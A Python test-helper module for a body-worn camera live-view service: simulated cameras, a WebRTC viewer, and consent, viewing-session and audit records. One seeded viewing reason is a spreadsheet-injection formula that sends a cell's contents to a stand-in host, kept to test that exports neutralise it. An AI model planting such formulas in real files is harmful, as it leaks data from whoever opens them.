"""Live view on real parts: the API stack with its relay, simulated cameras that answer over
MQTT and publish over WHIP, and an aiortc viewer over WHEP (used by test_live_view, the
dashboard's live-view tile and the browser's WHEP player)."""

from __future__ import annotations

import asyncio
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from typing import Any

import httpx
import orjson
import paho.mqtt.client as paho
from aiortc import RTCConfiguration, RTCPeerConnection, RTCSessionDescription
from aiortc.mediastreams import MediaStreamError

from core.contract import Channel, topic_for
from core.mqtt import BrokerAddress, new_client
from services.live_view import LiveView
from services.registry import DeviceRecord, provision_device
from simulator.camera import CameraPolicy
from simulator.fleet import FleetProfile, Unit, build_fleet
from simulator.geo import load_boroughs
from simulator.run import Simulator
from simulator.video import VideoUplink
from tests.helpers.api import add_test_users, running_api, token
from tests.helpers.db import Database
from tests.helpers.telemetry import event_payload, make_settings, publish_all
from tests.helpers.waiting import wait_for
from watchfloor.mosquitto import MosquittoProcess


class Watched:
    """Messages on some broker topics, collected on paho's thread (a test's eyes on the wire)."""

    def __init__(self, url: str, topics: list[str]) -> None:
        address = BrokerAddress.parse(url)
        self.messages: list[tuple[str, dict[str, Any]]] = []
        self._lock = threading.Lock()
        self._client = new_client(address, client_id=f"test-watch-{time.monotonic_ns()}", protocol=paho.MQTTv311)
        subscribed = threading.Event()

        def on_connect(client: paho.Client, *_: object) -> None:
            client.subscribe([(t, 1) for t in topics])

        def on_message(client: paho.Client, u: object, message: paho.MQTTMessage) -> None:
            try:
                body = orjson.loads(message.payload)
            except orjson.JSONDecodeError:
                return
            with self._lock:
                self.messages.append((message.topic, body))

        self._client.on_connect = on_connect
        self._client.on_subscribe = lambda *_: subscribed.set()
        self._client.on_message = on_message
        self._client.connect(address.host, address.port)
        self._client.loop_start()
        assert subscribed.wait(10)

    def bodies(self, topic_end: str) -> list[dict[str, Any]]:
        with self._lock:
            return [b for t, b in self.messages if t.endswith(topic_end)]

    def close(self) -> None:
        self._client.disconnect()
        self._client.loop_stop()


def _westminster_unit() -> Unit:
    """The simulator's unit in Westminster (index 31 of the borough list), so the test's
    camera is a real simulated one under its own id."""
    boroughs = load_boroughs()
    first = [b.name for b in boroughs].index("Westminster")
    return build_fleet(boroughs, 1, seed=SEED, profile=FleetProfile(), first=first)[0]


SEED = 3
SIM_UNIT = _westminster_unit()
WE1 = SIM_UNIT.device_id
DEVICES = [DeviceRecord(WE1, SIM_UNIT.callsign, SIM_UNIT.officer, "Westminster", SIM_UNIT.role),
           DeviceRecord("lv-we-afo", "WETRJ9", "PC Bo", "Westminster", "firearms"),
           DeviceRecord("lv-ca-1", "CA101", "PC Cy", "Camden", "response")]


@dataclass
class Stack:
    base: str
    mqtt_url: str
    db: Database
    secrets: dict[str, str]
    live_view: LiveView
    app: Any
    tokens: dict[str, str] = field(default_factory=dict)

    def token(self, user: str) -> str:
        if user not in self.tokens:
            self.tokens[user] = token(self.base, user)
        return self.tokens[user]

    def http(self, user: str) -> httpx.Client:
        return httpx.Client(base_url=self.base, headers={"Authorization": f"Bearer {self.token(user)}"}, timeout=15)

    def rows(self, sql: str, params: tuple[object, ...] = ()) -> list[tuple[Any, ...]]:
        with self.db.connect() as conn:
            return conn.execute(sql, params).fetchall()

    def audit(self, action: str) -> list[tuple[Any, ...]]:
        return self.rows("SELECT actor, device_id, details FROM audit_log WHERE action = %s ORDER BY seq", (action,))


@contextmanager
def stack(pg: Database, mosquitto: MosquittoProcess, **overrides: Any) -> Iterator[Stack]:
    secrets: dict[str, str] = {}
    with pg.connect() as conn:
        add_test_users(conn)
        for record in DEVICES:
            secrets[record.device_id] = provision_device(conn, record=record)
    settings = make_settings(**overrides)
    with running_api(database_url=pg.url, mqtt_url=mosquitto.url, settings=settings) as server:
        yield Stack(server.base, mosquitto.url, pg, secrets, server.app.state.live_view, server.app)


@contextmanager
def simulated_camera(s: Stack, *, decline_share: float) -> Iterator[Simulator]:
    """The simulator driving WE1: it answers commands and publishes video over WHIP."""
    with camera_against(s.base, s.mqtt_url, s.secrets[WE1], decline_share=decline_share) as sim:
        yield sim


@contextmanager
def camera_against(base: str, mqtt_url: str, secret: str, *, decline_share: float) -> Iterator[Simulator]:
    """The simulator driving WE1 against the API at ``base``: it answers commands, streams over
    WHIP, and keeps what its wearer is shown (``units[0].watching``)."""
    video = VideoUplink(api_url=base, secrets={WE1: secret}).open()
    sim = Simulator(mqtt_url=mqtt_url, devices=1, first=SIM_UNIT.index, interval_s=0.5, seed=SEED, video=video,
                    camera_policy=CameraPolicy(decline_share=decline_share),
                    client_prefix=f"test-lv-sim-{time.monotonic_ns()}")
    assert sim.units[0].device_id == WE1
    ready = threading.Event()
    thread = threading.Thread(target=sim.run, kwargs={"ready": ready}, daemon=True)
    thread.start()
    assert ready.wait(15)
    try:
        yield sim
    finally:
        sim.stop()
        thread.join(15)
        video.close()


class AiortcViewer:
    """A WHEP viewer: aiortc on an event loop of its own thread, counting decoded frames."""

    def __init__(self, base: str, bearer: str, device_id: str, reason: str | None) -> None:
        self.base, self.bearer, self.device_id, self.reason = base, bearer, device_id, reason
        self.frames = 0
        self.state = "new"
        self.location: str | None = None
        self.status: int | None = None
        self.error: dict[str, Any] | None = None
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._thread.start()
        self._pc: RTCPeerConnection | None = None
        self._readers: list[asyncio.Future[None]] = []

    def _run(self, coroutine: Any, timeout: float = 30) -> Any:
        return asyncio.run_coroutine_threadsafe(coroutine, self._loop).result(timeout)

    def open(self) -> int:
        return int(self._run(self._open()))

    async def _open(self) -> int:
        pc = self._pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))
        pc.addTransceiver("video", direction="recvonly")

        @pc.on("track")
        def on_track(track: Any) -> None:
            self._readers.append(asyncio.ensure_future(self._read(track)))

        @pc.on("connectionstatechange")
        def on_state() -> None:
            self.state = pc.connectionState

        await pc.setLocalDescription(await pc.createOffer())
        headers = {"Content-Type": "application/sdp", "Authorization": f"Bearer {self.bearer}"}
        if self.reason is not None:
            headers["X-Viewing-Reason"] = self.reason
        async with httpx.AsyncClient(timeout=15) as http:
            response = await http.post(f"{self.base}/api/v1/whep/{self.device_id}",
                                       content=pc.localDescription.sdp, headers=headers)
        self.status = response.status_code
        if response.status_code != 201:
            self.error = response.json()
            await pc.close()
            return response.status_code
        assert response.headers["content-type"].startswith("application/sdp")
        self.location = response.headers["location"]
        await pc.setRemoteDescription(RTCSessionDescription(sdp=response.text, type="answer"))
        return 201

    async def _read(self, track: Any) -> None:
        try:
            while True:
                await track.recv()
                self.frames += 1
        except MediaStreamError:
            pass

    def leave(self) -> int:
        assert self.location is not None

        async def delete() -> int:
            async with httpx.AsyncClient(timeout=15) as http:
                r = await http.delete(f"{self.base}{self.location}",
                                      headers={"Authorization": f"Bearer {self.bearer}"})
                return r.status_code
        return int(self._run(delete()))

    def close(self) -> None:
        if self._pc is not None:
            self._run(self._close())
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)

    async def _close(self) -> None:
        # The readers end when their track does; any left is cancelled and awaited, so that
        # none is still pending when the loop stops.
        assert self._pc is not None
        await self._pc.close()
        if self._readers:
            _, pending = await asyncio.wait(self._readers, timeout=5)
            for reader in pending:
                reader.cancel()
            await asyncio.gather(*pending, return_exceptions=True)


def _live(s: Stack, device_id: str) -> bool:
    with s.http("op-all") as http:
        return bool(http.get(f"/api/v1/devices/{device_id}/live-view").json()["live"])


def _relay_empty(s: Stack) -> bool:
    stats = s.live_view.relay.stats()
    return stats.streams == 0 and stats.viewers == 0


def _watched_stream(s: Stack, uplink: VideoUplink, seq: int) -> None:
    """The officer asks to be watched; the camera streams once the consent is on record."""
    publish_all(s.mqtt_url, [(topic_for(WE1, Channel.EVENTS), event_payload(seq, "watch_me"))])
    wait_for(lambda: s.rows("SELECT 1 FROM live_view_consents WHERE ended_at IS NULL"), what="consent")
    uplink.start(WE1)
    wait_for(lambda: _live(s, WE1), timeout=20, what="the stream")


def _ended(s: Stack, viewer: AiortcViewer) -> str | None:
    """How the viewer's session ended (None while it runs)."""
    assert viewer.location is not None
    rows = s.rows("SELECT end_reason FROM viewing_sessions WHERE session_id = %s AND ended_at IS NOT NULL",
                  (viewer.location.rsplit("/", 1)[-1],))
    return rows[0][0] if rows else None


def _whip(s: Stack, device_id: str, secret: str) -> httpx.Response:
    """A WHIP POST with a real aiortc offer (closed again: only the answer matters here)."""
    async def post() -> httpx.Response:
        pc = RTCPeerConnection(RTCConfiguration(iceServers=[]))
        pc.addTransceiver("video", direction="sendonly")
        await pc.setLocalDescription(await pc.createOffer())
        async with httpx.AsyncClient(timeout=15) as http:
            response = await http.post(f"{s.base}/api/v1/whip/{device_id}", content=pc.localDescription.sdp,
                                       headers={"Content-Type": "application/sdp", "Authorization": f"Bearer {secret}"})
        await pc.close()
        return response
    return asyncio.run(post())


# A viewing record at chosen times (for the auditor's filters and export): (session id,
# device, viewer, consent (a key of _RECORD_CONSENTS), start, end; None: still watching), and
# a refusal of op-west's on WE1 at 14:05. In the window 14:00-16:00 on WE1: the first four and
# the refusal.
RECORD_DAY = "2026-12-01"
RECORD_SESSIONS = [
    ("s-before-overlaps", WE1, "op-all", "watch-me", "13:50", "14:10"),
    ("s-inside", WE1, "op-west", "asked", "14:30", "15:00"),
    ("s-after-overlaps", WE1, "op-all", "asked", "15:50", "16:20"),
    ("s-still-watching", WE1, "op-all", "asked", "15:00", None),
    ("s-starts-at-until", WE1, "op-all", "watch-me", "16:00", "16:30"),
    ("s-ended-before", WE1, "op-all", "watch-me", "13:00", "13:59"),
    ("s-firearms", "lv-we-afo", "afo-cmd", "policy", "14:15", "14:20"),
    ("s-camden", "lv-ca-1", "op-all", "camden", "14:20", "14:40"),
]
_RECORD_CONSENTS = {"watch-me": (WE1, "officer_request"), "asked": (WE1, "accepted_request"),
                    "policy": ("lv-we-afo", "policy_recording"), "camden": ("lv-ca-1", "accepted_request")}
#: s-inside's reason: a spreadsheet would run it as a formula, were it not neutralised.
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def seed_viewing_record(conn: Any) -> None:
    """Write :data:`RECORD_SESSIONS` as the live view records them (the caller commits)."""
    ids = {}
    for key, (device_id, basis) in _RECORD_CONSENTS.items():
        ids[key] = conn.execute("INSERT INTO live_view_consents (device_id, basis, granted_at, ended_at, end_reason)"
                                " VALUES (%s, %s, %s, %s, 'officer_stopped') RETURNING id",
                                (device_id, basis, f"{RECORD_DAY}T12:00:00Z", f"{RECORD_DAY}T18:00:00Z")).fetchone()[0]
    for session_id, device_id, viewer, consent, start, end in RECORD_SESSIONS:
        reason = FORMULA if session_id == "s-inside" else f"reason of {session_id}"
        conn.execute("INSERT INTO viewing_sessions (session_id, device_id, viewer, role, reason, consent_id,"
                     " started_at, ended_at, end_reason) VALUES (%s, %s, %s, 'operator', %s, %s, %s, %s, %s)",
                     (session_id, device_id, viewer, reason, ids[consent], f"{RECORD_DAY}T{start}:00Z",
                      f"{RECORD_DAY}T{end}:00Z" if end else None, "viewer_stopped" if end else None))
    conn.execute("INSERT INTO viewing_sessions (device_id, viewer, role, reason, started_at, ended_at, end_reason,"
                 " refused) VALUES (%s, 'op-west', 'operator', 'refused attempt', %s, %s, 'refused',"
                 " 'no consent in force')", (WE1, f"{RECORD_DAY}T14:05:00Z", f"{RECORD_DAY}T14:05:00Z"))
